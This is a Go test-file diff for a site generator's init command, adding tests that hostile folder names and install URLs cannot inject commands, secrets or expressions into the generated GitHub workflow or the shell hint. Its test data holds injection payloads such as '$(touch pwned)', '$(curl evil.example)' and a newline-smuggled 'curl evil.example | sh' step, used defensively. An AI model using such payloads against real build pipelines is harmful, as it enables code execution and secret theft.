@@ -3,7 +3,7 @@ package main
 import (
 	"bufio"
 	"bytes"
-	"dossier/generator/search"
+	"encoding/json"
 	"io"
 	"net"
 	"net/http"
@@ -16,6 +16,11 @@ import (
 	"syscall"
 	"testing"
 	"time"
+
+	"dossier/generator/search"
+
+	"github.com/santhosh-tekuri/jsonschema/v6"
+	"go.yaml.in/yaml/v3"
 )
 
 // dossier init writes a site that builds strictly, with nothing to warn
@@ -47,7 +52,7 @@ func TestInit(t *testing.T) {
 		must(t, err)
 		return string(b)
 	}
-	if s := read("content/site.yaml"); !strings.Contains(s, "title: My briefings\n") {
+	if s := read("content/site.yaml"); !strings.Contains(s, "title: \"My briefings\"\n") {
 		t.Errorf("site.yaml = %s", s)
 	}
 	if s := read("content/briefings/welcome.md"); !strings.Contains(s, "date: 2025-04-20\n") || strings.Contains(s, "\ndraft:") {
@@ -57,7 +62,7 @@ func TestInit(t *testing.T) {
 		t.Errorf(".gitignore = %s", s)
 	}
 	wf := read(".github/workflows/pages.yml")
-	for _, w := range []string{"DOSSIER_GIT: ${{ vars.DOSSIER_GIT }}", "dossier build --strict --search --format github", "pagefind@" + search.Version, "actions/deploy-pages"} {
+	for _, w := range []string{`DOSSIER_GIT: "${{ vars.DOSSIER_GIT }}"`, "dossier build --strict --search --format github", `PAGEFIND_VERSION: "` + search.Version + `"`, `"pagefind@$PAGEFIND_VERSION"`, "actions/deploy-pages"} {
 		if !strings.Contains(wf, w) {
 			t.Errorf("the workflow lacks %q", w)
 		}
@@ -299,4 +304,152 @@ func TestMakeServeStopsWithOnePID(t *testing.T) {
 	cmd.Env = append(os.Environ(), "GOFLAGS=-buildvcs=false")
 	startServe(t, cmd)
 	stopWith(t, cmd, addr, false)
+}
+
+// A folder of any name makes a site that builds: its title is the name's
+// first letter upper-cased (a letter, not a byte), written as YAML text,
+// and the hint to start it can be pasted into a shell as it is.
+func TestInitAnyFolderName(t *testing.T) {
+	for _, tt := range []struct{ name, title string }{
+		{"émissions", "Émissions"},
+		{"Étude", "Étude"},
+		{"брифинги", "Брифинги"},
+		{"中文", "中文"},
+		{"null", "Null"},
+		{"NULL", "Null"},
+		{"true", "True"},
+		{"1e3", "1e3"},
+		{"it's $(touch pwned) `x` & more", "It s touch pwned x more"},
+		{"-rf", "Rf"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			parent := t.TempDir()
+			dir := filepath.Join(parent, tt.name)
+			code, stdout, stderr := runCmd("init", dir)
+			if code != 0 {
+				t.Fatalf("init: exit %d: %s", code, stderr)
+			}
+			site, err := os.ReadFile(filepath.Join(dir, "content/site.yaml"))
+			must(t, err)
+			var cfg struct{ Title any }
+			if err := yaml.Unmarshal(site, &cfg); err != nil || cfg.Title != tt.title {
+				t.Errorf("site.yaml's title = %#v (%v), want %q:\n%s", cfg.Title, err, tt.title, site)
+			}
+			if code, _, stderr := runCmd("check", "--source", dir); code != 0 {
+				t.Errorf("check: exit %d: %s", code, stderr)
+			}
+			// the hint, pasted into a shell in the folder init ran in
+			_, hint, ok := strings.Cut(stdout, "next: ")
+			cd, _, found := strings.Cut(hint, " && dossier serve")
+			if !ok || !found {
+				t.Fatalf("no hint to cd and serve: %s", stdout)
+			}
+			sh := exec.Command("sh", "-c", cd+" && pwd -P")
+			sh.Dir = parent
+			out, err := sh.CombinedOutput()
+			want, _ := filepath.EvalSymlinks(dir)
+			if err != nil || strings.TrimSpace(string(out)) != want {
+				t.Errorf("the hint %q, pasted: %s %v", cd, out, err)
+			}
+			if _, err := os.Stat(filepath.Join(parent, "pwned")); err == nil {
+				t.Error("the hint ran a command")
+			}
+		})
+	}
+}
+
+// The workflow init writes is YAML that GitHub's workflow schema accepts,
+// whatever URL dossier was installed from: a token in it is dropped, and
+// ${{ }}, " #", a leading "*", newlines and quotes never reach the file;
+// no value is written into a step's script, and the only expressions are
+// the workflow's own.
+func TestInitWorkflowHostile(t *testing.T) {
+	schema := workflowSchema(t)
+	defer func(old string) { sourceGit = old }(sourceGit)
+	for _, tt := range []struct{ installed, git string }{
+		{"", "${{ vars.DOSSIER_GIT }}"},
+		{"https://github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
+		{"https://user:TOKEN@github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
+		{"https://TOKEN@github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
+		{"https://x-access-token:TOKEN@github.com/owner/dossier", "https://github.com/owner/dossier"},
+		{"ssh://git:TOKEN@example.org:2222/dossier.git", "ssh://git@example.org:2222/dossier.git"},
+		{"git@github.com:owner/dossier.git", "git@github.com:owner/dossier.git"},
+		{"user:TOKEN@github.com:owner/dossier.git", "${{ vars.DOSSIER_GIT }}"},
+		{"https://github.com/${{ secrets.TOKEN }}/dossier", "${{ vars.DOSSIER_GIT }}"},
+		{"https://github.com/owner/dossier #comment", "${{ vars.DOSSIER_GIT }}"},
+		{"https://github.com/owner/dossier#frag", "${{ vars.DOSSIER_GIT }}"},
+		{"*anchor", "${{ vars.DOSSIER_GIT }}"},
+		{"https://github.com/owner/dossier\nrun: curl evil.example | sh", "${{ vars.DOSSIER_GIT }}"},
+		{`https://github.com/o/"d'`, "${{ vars.DOSSIER_GIT }}"},
+		{"$(curl evil.example)", "${{ vars.DOSSIER_GIT }}"},
+		{"-uhttps://evil.example/", "${{ vars.DOSSIER_GIT }}"},
+	} {
+		sourceGit = tt.installed
+		dir := t.TempDir()
+		code, stdout, stderr := runCmd("init", dir)
+		if code != 0 {
+			t.Fatalf("%q: init: exit %d: %s", tt.installed, code, stderr)
+		}
+		raw, err := os.ReadFile(filepath.Join(dir, ".github/workflows/pages.yml"))
+		must(t, err)
+		wf := string(raw)
+		if strings.Contains(wf+stdout+stderr, "TOKEN") || strings.Contains(wf, "evil.example") {
+			t.Errorf("%q: a secret or a command reached the workflow or the terminal:\n%s%s%s", tt.installed, wf, stdout, stderr)
+		}
+		var doc struct {
+			Env  map[string]string
+			Jobs map[string]struct {
+				Steps []struct {
+					Run string
+					Env map[string]string
+				}
+			}
+		}
+		if err := yaml.Unmarshal(raw, &doc); err != nil {
+			t.Fatalf("%q: the workflow is not YAML: %v\n%s", tt.installed, err, wf)
+		}
+		if doc.Env["DOSSIER_GIT"] != tt.git {
+			t.Errorf("%q: DOSSIER_GIT = %q, want %q", tt.installed, doc.Env["DOSSIER_GIT"], tt.git)
+		}
+		if tt.git == "${{ vars.DOSSIER_GIT }}" && !strings.Contains(stdout, "set the repository variable DOSSIER_GIT") {
+			t.Errorf("%q: init does not say to set DOSSIER_GIT: %s", tt.installed, stdout)
+		}
+		for name, job := range doc.Jobs {
+			for _, st := range job.Steps {
+				if strings.Contains(st.Run, "${{") {
+					t.Errorf("%q: job %s runs a script with an expression in it: %s", tt.installed, name, st.Run)
+				}
+			}
+		}
+		own := regexp.MustCompile(`\$\{\{ (vars\.DOSSIER_GIT|github\.repository_owner|github\.event\.repository\.name|steps\.deployment\.outputs\.page_url) \}\}`)
+		if rest := own.ReplaceAllString(wf, ""); strings.Contains(rest, "${{") {
+			t.Errorf("%q: an expression that is not the workflow's own:\n%s", tt.installed, wf)
+		}
+		var v any
+		must(t, yaml.Unmarshal(raw, &v))
+		j, err := json.Marshal(v)
+		must(t, err)
+		inst, err := jsonschema.UnmarshalJSON(bytes.NewReader(j))
+		must(t, err)
+		if err := schema.Validate(inst); err != nil {
+			t.Errorf("%q: the workflow does not validate against GitHub's workflow schema: %v", tt.installed, err)
+		}
+	}
+}
+
+// workflowSchema is SchemaStore's schema of GitHub workflows
+// (testdata/schemastore, Apache-2.0), compiled.
+func workflowSchema(t *testing.T) *jsonschema.Schema {
+	t.Helper()
+	f, err := os.Open("testdata/schemastore/github-workflow.json")
+	must(t, err)
+	defer f.Close()
+	doc, err := jsonschema.UnmarshalJSON(f)
+	must(t, err)
+	c := jsonschema.NewCompiler()
+	const id = "https://json.schemastore.org/github-workflow.json"
+	must(t, c.AddResource(id, doc))
+	s, err := c.Compile(id)
+	must(t, err)
+	return s
 }
